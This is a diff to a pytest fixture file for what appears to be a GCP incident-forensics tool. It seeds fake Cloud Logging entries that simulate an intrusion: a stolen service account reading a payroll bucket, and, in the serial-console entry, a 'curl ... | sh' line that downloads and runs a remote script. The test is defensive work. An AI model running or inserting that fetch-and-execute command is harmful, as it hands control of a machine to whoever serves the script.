@@ -6,6 +6,7 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
@@ -75,8 +76,58 @@ def project(gcp_fake: FakeGcp) -> Project:
         disk_names=("web-1-boot", "web-1-data"),
         service_account=ACCOUNT,
     )
+    seed_logs(gcp_fake, gcp_fake.compute.instances[(ZONE, "web-1")]["id"])
     clients = GcpClients("prewire-fake", gcp_fake.credentials(), gcp_fake.url, poll_seconds=0.01)
     return Project(gcp_fake, clients)
+
+
+def seed_logs(fake: FakeGcp, instance_id: str) -> None:
+    """What the attacker left in Cloud Logging, and entries about others (not collected)."""
+    now = datetime.now(UTC)
+    base = "projects/prewire-fake/logs"
+
+    def at(minutes: int) -> str:
+        return (now - timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+
+    fake.logging.entries += [
+        {  # the instance's serial console: the attacker's shell
+            "logName": f"{base}/serialconsole.googleapis.com%2Fserial_port_1_output",
+            "timestamp": at(40),
+            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
+            "textPayload": "curl http://203.0.113.66/x.sh | sh",
+        },
+        {  # the audit log naming the instance
+            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
+            "timestamp": at(35),
+            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
+            "protoPayload": {
+                "methodName": "v1.compute.instances.setMetadata",
+                "resourceName": f"projects/prewire-fake/zones/{ZONE}/instances/web-1",
+                "authenticationInfo": {"principalEmail": "attacker@example.com"},
+            },
+        },
+        {  # what the stolen service account token did elsewhere
+            "logName": f"{base}/cloudaudit.googleapis.com%2Fdata_access",
+            "timestamp": at(30),
+            "resource": {"type": "gcs_bucket", "labels": {"bucket_name": "payroll"}},
+            "protoPayload": {
+                "methodName": "storage.objects.get",
+                "resourceName": "projects/_/buckets/payroll/objects/2026.csv",
+                "authenticationInfo": {"principalEmail": ACCOUNT},
+            },
+        },
+        {  # another instance: not collected
+            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
+            "timestamp": at(20),
+            "resource": {"type": "gce_instance", "labels": {"instance_id": "1"}},
+            "protoPayload": {"resourceName": f"projects/prewire-fake/zones/{ZONE}/instances/db-1"},
+        },
+        {  # the victim, but before the window: not collected
+            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
+            "timestamp": at(60 * 24 * 30),
+            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
+        },
+    ]
 
 
 def open_test_case(project: Project, case: str = "case-1", **options: Any) -> GcpCase:
